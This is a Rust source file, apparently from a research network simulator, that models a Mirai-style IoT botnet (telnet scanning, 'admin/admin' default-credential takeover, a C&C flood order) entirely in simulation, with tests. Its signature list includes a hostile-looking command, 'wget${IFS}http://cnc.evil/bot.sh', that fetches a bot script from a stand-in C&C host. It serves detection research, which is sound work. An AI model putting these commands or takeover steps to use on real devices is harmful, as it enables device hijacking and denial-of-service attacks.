//! The Mirai-style botnet pipeline (§IV-B3, and the Nokia report the
//! paper cites: "IoT botnets accounted for 78% of the malware carrier
//! network activity detected in 2018"): scan for open telnet, take over
//! weak devices, then command the recruits to flood a victim.
//!
//! Malicious payloads embed the C&C keyword strings that Alhanahnah et
//! al.'s signature generation extracts (§IV-B2) — the encrypted-DPI
//! experiment matches exactly these.

use std::cell::RefCell;
use std::rc::Rc;
use xlf_simnet::{Context, Duration, Node, NodeId, Packet, SimTime};

/// The C&C keyword strings the DPI signature set matches (modeled on the
/// shell-command indicators of the cited signature-generation work).
pub const CNC_SIGNATURES: &[&[u8]] = &[
    b"wget${IFS}http://cnc.evil/bot.sh",
    b"/bin/busybox MIRAI",
    b"POST /cdn-cgi/ HTTP",
];

/// Phase 1+2: scans targets for open telnet and tries default
/// credentials on responders.
pub struct Scanner {
    targets: Vec<NodeId>,
    /// Devices found with open telnet.
    pub open_telnet: Rc<RefCell<Vec<String>>>,
    /// Devices successfully taken over.
    pub recruited: Rc<RefCell<Vec<(String, NodeId)>>>,
}

impl Scanner {
    /// Creates a scanner over the target list.
    pub fn new(targets: Vec<NodeId>) -> Self {
        Scanner {
            targets,
            open_telnet: Rc::new(RefCell::new(Vec::new())),
            recruited: Rc::new(RefCell::new(Vec::new())),
        }
    }
}

impl Node for Scanner {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        for &target in &self.targets {
            let probe = Packet::new(ctx.id(), target, "probe", Vec::new()).with_meta("port", "23");
            ctx.send(target, probe);
        }
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        match packet.kind {
            "probe-result" if packet.meta("open") == Some("true") => {
                let device = packet.meta("device").unwrap_or("?").to_string();
                self.open_telnet.borrow_mut().push(device);
                // Phase 2: login with the default credential list, carrying
                // the C&C bootstrap command in the payload.
                let login = Packet::new(ctx.id(), packet.src, "login", CNC_SIGNATURES[0].to_vec())
                    .with_meta("user", "admin")
                    .with_meta("pass", "admin");
                ctx.send(packet.src, login);
            }
            "login-result" if packet.meta("outcome") == Some("success") => {
                self.recruited
                    .borrow_mut()
                    .push((packet.meta("device").unwrap_or("?").to_string(), packet.src));
            }
            _ => {}
        }
    }
}

/// Phase 3: the C&C server orders recruited bots to flood a victim.
pub struct CommandAndControl {
    bots: Vec<NodeId>,
    victim: NodeId,
    /// Flood packets each bot should emit.
    pub packets_per_bot: u32,
    /// Delay before the attack order goes out.
    pub start_after: Duration,
}

impl CommandAndControl {
    /// Creates a C&C with the recruited bot list and the flood victim.
    pub fn new(bots: Vec<NodeId>, victim: NodeId) -> Self {
        CommandAndControl {
            bots,
            victim,
            packets_per_bot: 200,
            start_after: Duration::from_secs(1),
        }
    }
}

impl Node for CommandAndControl {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(self.start_after, 1);
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, _tag: u64) {
        for &bot in &self.bots {
            let order = Packet::new(ctx.id(), bot, "attack-cmd", CNC_SIGNATURES[1].to_vec())
                .with_meta("target", self.victim.raw().to_string())
                .with_meta("count", self.packets_per_bot.to_string());
            ctx.send(bot, order);
        }
    }
}

/// The DDoS victim: counts the flood and computes saturation statistics.
#[derive(Default)]
pub struct Victim {
    /// (arrival time, wire size) of each flood packet.
    pub hits: Vec<(SimTime, usize)>,
}

impl Victim {
    /// Creates an empty victim.
    pub fn new() -> Self {
        Victim::default()
    }

    /// Peak received rate in packets/second over 1-second windows.
    pub fn peak_pps(&self) -> f64 {
        if self.hits.is_empty() {
            return 0.0;
        }
        let mut counts = std::collections::BTreeMap::new();
        for (at, _) in &self.hits {
            *counts.entry(at.as_micros() / 1_000_000).or_insert(0u32) += 1;
        }
        counts.values().copied().max().unwrap_or(0) as f64
    }

    /// Total flood bytes received.
    pub fn total_bytes(&self) -> u64 {
        self.hits.iter().map(|&(_, s)| s as u64).sum()
    }
}

impl Node for Victim {
    fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        if packet.kind == "ddos" {
            self.hits.push((ctx.now(), packet.wire_size));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use xlf_cloud::HubNode;
    use xlf_device::{DeviceConfig, SensorKind, SimDevice, VulnSet, Vulnerability};
    use xlf_simnet::{Medium, Network};

    /// Builds a home with `n_weak` vulnerable and `n_strong` hardened
    /// devices behind a hub, plus a WAN victim; returns
    /// (net, device_ids, victim_id, hub_id).
    fn botnet_scenario(n_weak: usize, n_strong: usize) -> (Network, Vec<NodeId>, NodeId, NodeId) {
        let mut net = Network::new(77);
        // Victim is id 0, hub id 1, devices follow.
        let victim = net.add_node(Box::new(Victim::new()));
        let mut hub = HubNode::new(victim); // cloud unused; point at victim
        let n_total = n_weak + n_strong;
        for i in 0..n_total {
            hub.register_device(&format!("dev{i}"), NodeId::from_raw(2 + i as u32));
        }
        let hub_id = net.add_node(Box::new(hub));
        let mut devices = Vec::new();
        for i in 0..n_total {
            let vulns = if i < n_weak {
                VulnSet::of(&[Vulnerability::StaticPassword])
            } else {
                VulnSet::hardened()
            };
            let cfg = DeviceConfig::new(&format!("dev{i}"), SensorKind::Power, hub_id)
                .with_vulns(vulns)
                .with_telemetry_period(Duration::from_secs(600));
            let id = net.add_node(Box::new(SimDevice::new(cfg)));
            net.connect(hub_id, id, Medium::Wifi.link().with_loss(0.0));
            devices.push(id);
        }
        net.connect(hub_id, victim, Medium::Wan.link().with_loss(0.0));
        (net, devices, victim, hub_id)
    }

    #[test]
    fn scanner_finds_and_recruits_only_weak_devices() {
        let (mut net, devices, _victim, _hub) = botnet_scenario(3, 2);
        let scanner = Scanner::new(devices.clone());
        let open = scanner.open_telnet.clone();
        let recruited = scanner.recruited.clone();
        let scanner_id = net.add_node(Box::new(scanner));
        for &d in &devices {
            net.connect(scanner_id, d, Medium::Wifi.link().with_loss(0.0));
        }
        net.run_until(SimTime::from_secs(10));
        assert_eq!(open.borrow().len(), 3);
        assert_eq!(recruited.borrow().len(), 3);
    }

    #[test]
    fn full_pipeline_floods_the_victim() {
        let (mut net, devices, victim, _hub) = botnet_scenario(3, 1);
        // Pre-compromise the weak devices via the scanner.
        let scanner = Scanner::new(devices.clone());
        let recruited = scanner.recruited.clone();
        let scanner_id = net.add_node(Box::new(scanner));
        for &d in &devices {
            net.connect(scanner_id, d, Medium::Wifi.link().with_loss(0.0));
        }
        net.run_until(SimTime::from_secs(5));
        let bots: Vec<NodeId> = recruited.borrow().iter().map(|&(_, id)| id).collect();
        assert_eq!(bots.len(), 3);

        let cnc = CommandAndControl::new(bots, victim);
        let cnc_id = net.add_node(Box::new(cnc));
        for &(_, bot) in recruited.borrow().iter() {
            net.connect(cnc_id, bot, Medium::Wan.link().with_loss(0.0));
        }
        net.run_until(SimTime::from_secs(60));

        let v = net.node_as::<Victim>(victim).unwrap();
        assert_eq!(v.hits.len(), 3 * 200, "every bot delivers its quota");
        assert!(v.peak_pps() > 100.0, "peak {} pps", v.peak_pps());
        assert!(v.total_bytes() > 300_000);
    }

    #[test]
    fn cnc_signatures_appear_in_recruitment_traffic() {
        // The property the encrypted-DPI experiment depends on.
        for sig in CNC_SIGNATURES {
            assert!(!sig.is_empty());
        }
        assert!(CNC_SIGNATURES[0].windows(4).any(|w| w == b"wget"));
    }
}
